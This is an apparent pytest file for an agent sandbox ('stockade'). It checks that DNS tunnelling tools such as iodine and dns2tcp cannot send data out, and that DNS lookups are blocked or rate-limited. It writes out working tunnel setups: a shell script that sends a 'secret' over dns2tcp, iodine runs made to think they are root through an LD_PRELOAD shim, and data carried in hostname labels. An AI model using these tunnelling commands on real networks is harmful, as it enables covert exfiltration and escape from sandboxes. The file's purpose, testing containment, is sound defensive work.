"""Tunnels through DNS, by the programs that people use for them: what a sandbox asks for never reaches a name server.

The same programs, in the same image, get their bytes through where a resolver answers to them: else their silence in a
sandbox would say nothing.
"""

import json
import subprocess
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor

import pytest

from support.engine import ROOT, EngineInUse
from support.stack import Stack

pytestmark = [pytest.mark.docker, pytest.mark.gate]

IMAGE, AGENT, AGENT_TYPE = "stockade/test-clients", "tunneller-1", "coverage-specialist"
NAMES_PER_MINUTE = 120
"""Of names that its policy does not spell out: the service's default for each agent."""

OUTSIDE = """
cd /tmp
cat > dns2tcpd.conf <<END
listen = 127.0.0.1
port = 53
user = root
chroot = /tmp
domain = tunnel.test
resources = sink:127.0.0.1:7000
END
dns2tcpd -f dns2tcpd.conf
timeout 20 python3 -c 'import socket; print(socket.create_server(("127.0.0.1", 7000)).accept()[0].recv(99).decode())' &
received=$!
sleep 1
dns2tcpc -c -z tunnel.test -r sink -l 7001 127.0.0.1 > dns2tcpc.log 2>&1 &
sleep 1
python3 -c 'import socket; socket.create_connection(("127.0.0.1", 7001)).sendall(b"a secret by dns2tcp")'
wait $received
iodined -f -P word -c -l 127.0.0.2 10.53.0.1 tunnel.test > iodined.log 2>&1 &
sleep 1
timeout 4 iodine -f -r -P word -m 200 127.0.0.2 tunnel.test 2>&1
"""

# Each asks the sandbox's own resolver, one of the world's, and the host's by an address that is the sandbox's own.
INSIDE = """
import concurrent.futures, json, subprocess, sys

def run(command):
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=8)
    except subprocess.TimeoutExpired:
        return "nothing"
    return done.stdout + done.stderr

commands = json.load(sys.stdin)
with concurrent.futures.ThreadPoolExecutor(len(commands)) as pool:
    print(json.dumps(dict(zip(commands, pool.map(run, commands.values())))))
"""
IODINE = ["iodine", "-f", "-r", "-P", "word"]
AS_ROOT = ["env", "LD_PRELOAD=/usr/local/lib/as-root.so"]
"""It gives up where it is not root and has no network device; told that it is, it tries."""

HOSTNAMES = """
import http.client, json, sys

def status(host):
    gate = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
    gate.request("GET", f"http://{host}/")
    return gate.getresponse().status

print(json.dumps([status(sys.argv[1].format(number)) for number in range(int(sys.argv[2]))]))
"""


@pytest.fixture(scope="module", autouse=True)
def outside(engine: EngineInUse) -> Iterator[Future[str]]:
    """What they say in a container of its own, where all there is is lo; it takes its time beside the other tests."""
    subprocess.run([ROOT / "tests/images/clients/build"], check=True, timeout=300)
    alone = ("--network", "none", "--cap-add", "NET_ADMIN", "--device", "/dev/net/tun", "--user", "0")
    with ThreadPoolExecutor(1) as pool:
        yield pool.submit(engine.docker, "run", "--rm", *alone, IMAGE, "bash", "-c", OUTSIDE, check=False)


def test_they_do_not_inside_a_sandbox(stack: Stack) -> None:
    resolvers = ("127.0.0.1", "1.1.1.1", stack.outside.ok.address)
    commands = {"iodine, as it is": [*IODINE, "127.0.0.1", "tunnel.test"]}
    for resolver in resolvers:
        commands[f"iodine by {resolver}"] = [*AS_ROOT, *IODINE, resolver, "tunnel.test"]
        commands[f"dns2tcp by {resolver}"] = ["dns2tcpc", "-c", "-z", "tunnel.test", resolver]
    stack.outside.forget()
    with stack.policy(AGENT_TYPE, "ok.test"), stack.sandbox(AGENT, AGENT_TYPE, image=IMAGE) as name:
        done = stack.stockade("sandbox", "exec", name, "--", "python3", "-c", INSIDE, stdin=json.dumps(commands))
    assert done.returncode == 0, done.stderr
    told = json.loads(done.stdout)
    assert told.keys() == commands.keys()
    assert not [said for said in told.values() if "setup complete" in said or "Available" in said]
    assert "Run as root" in told["iodine, as it is"]
    assert _looked_up(stack, "tunnel.test") == set()


def test_they_do_where_a_resolver_answers(outside: Future[str]) -> None:
    said = outside.result(60)
    assert "a secret by dns2tcp" in said
    assert "Connection setup complete, transmitting data." in said


def test_a_refused_name_is_no_message(stack: Stack) -> None:
    assert _asked(stack, "secret-{}.tunnel.test", 5) == [403] * 5
    assert _looked_up(stack, "tunnel.test") == set()


def test_names_below_a_wildcard_are_few(stack: Stack) -> None:
    """What reaches the name server: so many names a minute, and no more."""
    statuses = _asked(stack, "secret-{}.wild.test", NAMES_PER_MINUTE + 30)
    assert statuses == [502] * NAMES_PER_MINUTE + [429] * 30
    assert _looked_up(stack, "wild.test", "secret-") == {f"secret-{n}.wild.test" for n in range(NAMES_PER_MINUTE)}
    limited = stack.entries(AGENT, action="rate_limited", limit="1000")
    assert {entry["rule"] for entry in limited} == {"names_per_minute"}


def _looked_up(stack: Stack, below: str, beginning: str = "") -> set[str]:
    """Names that reached the name server since; the gate looks up again what it found for others before."""
    return {name for name in stack.zone.queries if name.endswith(below) and name.startswith(beginning)}


def _asked(stack: Stack, host: str, count: int) -> list[int]:
    stack.outside.forget()
    with stack.policy(AGENT_TYPE, "ok.test", "*.wild.test"), stack.sandbox(AGENT, AGENT_TYPE) as name:
        done = stack.stockade("sandbox", "exec", name, "--", "python3", "-c", HOSTNAMES, host, str(count))
    assert done.returncode == 0, done.stderr
    statuses: list[int] = json.loads(done.stdout)
    return statuses
